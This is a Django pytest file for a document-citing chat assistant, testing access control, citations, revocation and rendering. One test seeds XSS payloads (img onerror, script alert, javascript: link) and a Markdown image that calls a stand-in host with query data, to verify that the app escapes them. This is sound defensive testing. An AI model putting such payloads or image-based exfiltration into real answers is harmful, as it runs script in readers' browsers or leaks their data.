"""The chat page and its fragments through Django's test client: who may see what, and that nothing
a document or the model writes becomes markup. The browser flows are in tests/browser/."""

from __future__ import annotations

import re

import pytest
from django.test import Client

from accounts.models import User
from assistant.models import Citation, Conversation, Message
from assistant.services.conversations import conversation_create, question_submit
from core.rls import acting_as_system
from knowledge.models import Chunk, Document, Grant, Source
from knowledge.services.grants import grant_revoke
from tests.conftest import Corpus, People
from tests.factories import ChunkFactory

pytestmark = pytest.mark.django_db


def signed_in(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


def answered(owner: User, text: str, cited: list[Chunk], question: str = "What are the bands?") -> Message:
    """A finished answer citing ``cited`` as [1], [2]… (as the answering service records one)."""
    conversation = conversation_create(owner=owner)
    message = question_submit(conversation=conversation, asked_by=owner, text=question)
    Message.objects.filter(pk=message.pk).update(text=text, status=Message.Status.ANSWERED, language="en")
    Citation.objects.bulk_create(
        Citation(message=message, chunk=chunk, number=n, cited=True) for n, chunk in enumerate(cited, start=1)
    )
    return Message.objects.get(pk=message.pk)


def first_chunk(document: Document) -> Chunk:
    with acting_as_system():  # tests read past the row-level security the pages run under
        return document.chunks.earliest("ordinal")


def test_the_page_is_behind_the_sign_in_page() -> None:
    response = Client().get("/")
    assert response.status_code == 302 and response["Location"].startswith("/accounts/login/")
    login = Client().get("/accounts/login/")
    assert "Sign in to Enclave" in login.content.decode()


def test_a_conversation_is_shown_again_after_a_reload_with_its_cited_answer(people: People, corpus: Corpus) -> None:
    chunk = first_chunk(corpus.salaries)
    message = answered(people.alice, "Engineers are in band **E2** [1].", [chunk])
    page = signed_in(people.alice).get(f"/chat/{message.conversation_id}").content.decode()

    assert "What are the bands?" in page  # the question
    assert "<strong>E2</strong>" in page  # Markdown rendered
    chip = re.search(r'<button type="button" class="chip" data-citation="1" hx-get="([^"]+)"', page)
    assert chip and chip.group(1) == f"/chat/answers/{message.pk}/citations/1"
    assert "Salary bands" in page  # the sources panel names the document
    assert f'href="/chat/{message.conversation_id}" aria-current="page"' in page  # the sidebar marks it


def test_opening_a_citation_shows_the_passage_its_document_and_a_download(people: People, corpus: Corpus) -> None:
    chunk = first_chunk(corpus.salaries)
    message = answered(people.alice, "See [1].", [chunk])
    passage = signed_in(people.alice).get(f"/chat/answers/{message.pk}/citations/1").content.decode()
    assert "Salary bands" in passage and "HR handbook" in passage
    assert chunk.text[:40] in passage


def test_nothing_a_model_or_document_writes_becomes_markup(people: People, corpus: Corpus) -> None:
    with acting_as_system():
        hostile = ChunkFactory.create(
            document=corpus.salaries, text='<img src=x onerror="alert(1)"> Bands are <b>secret</b>.'
        )
    text = (
        "Answer <script>alert('x')</script> ![leak](https://evil.example/?q=bands) "
        "[click](javascript:alert(1)) [site](https://example.com) [1]"
    )
    message = answered(people.alice, text, [hostile])
    alice = signed_in(people.alice)
    page = alice.get(f"/chat/{message.conversation_id}")
    html = page.content.decode()
    answer_html = html[html.index(f'id="answer-{message.pk}"') :]

    assert "<script>alert" not in answer_html and "&lt;script&gt;" in answer_html
    assert "<img" not in answer_html  # no image is ever fetched from an answer
    assert 'href="javascript:' not in answer_html and "[click](javascript:alert(1))" in answer_html  # left as text
    assert 'href="https://example.com" rel="noopener noreferrer nofollow" target="_blank"' in answer_html
    assert "script-src 'self'" in page["Content-Security-Policy"]

    passage = alice.get(f"/chat/answers/{message.pk}/citations/1").content.decode()
    assert "<img" not in passage and "&lt;img src=x" in passage and "<b>" not in passage


def test_outsiders_get_404_for_every_page_and_fragment_of_someone_elses_conversation(
    people: People, corpus: Corpus
) -> None:
    message = answered(people.alice, "See [1].", [first_chunk(corpus.memo)])
    charlie = signed_in(people.charlie)
    conversation = message.conversation_id
    for url in (
        f"/chat/{conversation}",
        f"/chat/answers/{message.pk}",
        f"/chat/answers/{message.pk}/citations/1",
    ):
        assert charlie.get(url).status_code == 404, url
    assert "There is nothing here, or it is not yours to see." in charlie.get(f"/chat/{conversation}").content.decode()
    assert charlie.post(f"/chat/conversations/{conversation}/rename", {"title": "mine"}).status_code == 404
    assert charlie.post(f"/chat/conversations/{conversation}/delete").status_code == 404
    assert charlie.get(f"/documents/{corpus.memo.pk}/download").status_code == 404
    assert Conversation.objects.get(pk=conversation).title == "What are the bands?"
    assert "What are the bands?" not in charlie.get("/").content.decode()  # nor in charlie's sidebar


def test_a_revoked_passage_is_no_longer_opened_from_an_old_answer(people: People, corpus: Corpus) -> None:
    message = answered(people.alice, "The memo says so [1].", [first_chunk(corpus.memo)])
    alice = signed_in(people.alice)
    with acting_as_system():
        grant_revoke(grant=Grant.objects.get(user=people.alice, document=corpus.memo))

    passage = alice.get(f"/chat/answers/{message.pk}/citations/1").content.decode()
    assert "no longer available to you" in passage and "Board memo" not in passage
    page = alice.get(f"/chat/{message.conversation_id}").content.decode()
    assert "The memo says so" not in page and "relied on documents you can no longer see" in page
    assert "Board memo" not in page


def test_conversations_can_be_renamed_and_deleted_by_their_owner(people: People, corpus: Corpus) -> None:
    message = answered(people.alice, "See [1].", [first_chunk(corpus.salaries)])
    alice = signed_in(people.alice)
    conversation = message.conversation_id

    item = alice.post(
        f"/chat/conversations/{conversation}/rename", {"title": "Pay questions", "active": "x"}, HTTP_HX_REQUEST="true"
    )
    assert "Pay questions" in item.content.decode()
    assert "Pay questions" in alice.get("/").content.decode()

    deleted = alice.post(f"/chat/conversations/{conversation}/delete", HTTP_HX_REQUEST="true")
    assert deleted.status_code == 204 and deleted["HX-Redirect"] == "/"
    assert alice.get(f"/chat/{conversation}").status_code == 404


def test_feedback_from_the_page_comes_back_as_the_pressed_button(people: People, corpus: Corpus) -> None:
    message = answered(people.alice, "See [1].", [first_chunk(corpus.salaries)])
    response = signed_in(people.alice).post(
        f"/chat/answers/{message.pk}/feedback", {"rating": "-1"}, HTTP_HX_REQUEST="true"
    )
    html = response.content.decode()
    assert re.search(r'"rating": "-1"}\'[^>]*aria-pressed="true"', html)
    assert "Thanks for the feedback." in html


def test_staff_see_no_admin_link_and_knowledge_admins_do(people: People) -> None:
    assert "Admin console" not in signed_in(people.bob).get("/").content.decode()
    assert 'href="/admin/"' in signed_in(people.admin).get("/").content.decode()


def test_someone_who_can_see_nothing_is_told_so_instead_of_a_blank_page(people: People) -> None:
    page = signed_in(people.charlie).get("/").content.decode()
    assert "Nothing has been shared with you yet" in page


def test_the_page_follows_the_browser_language_and_the_switcher(people: People, corpus: Corpus) -> None:
    charlie = signed_in(people.charlie)
    chinese = charlie.get("/", HTTP_ACCEPT_LANGUAGE="zh-CN,zh;q=0.9").content.decode()
    assert '<html lang="zh-hans">' in chinese and "新对话" in chinese and "发送" in chinese

    charlie.post("/i18n/setlang/", {"language": "en", "next": "/"})
    english = charlie.get("/", HTTP_ACCEPT_LANGUAGE="zh-CN,zh;q=0.9").content.decode()
    assert '<html lang="en">' in english and "New chat" in english


def test_a_reader_downloads_the_original_and_an_outsider_cannot(people: People, demo: dict[str, Source]) -> None:
    with acting_as_system():
        leave = demo["hr"].documents.get(uri="leave-policy.md")
    response = signed_in(people.bob).get(f"/documents/{leave.pk}/download")
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="leave-policy.md"'
    assert b"annual leave" in response.getvalue().lower()
    assert signed_in(people.charlie).get(f"/documents/{leave.pk}/download").status_code == 404
    assert Client().get(f"/documents/{leave.pk}/download").status_code == 302  # to the sign-in page
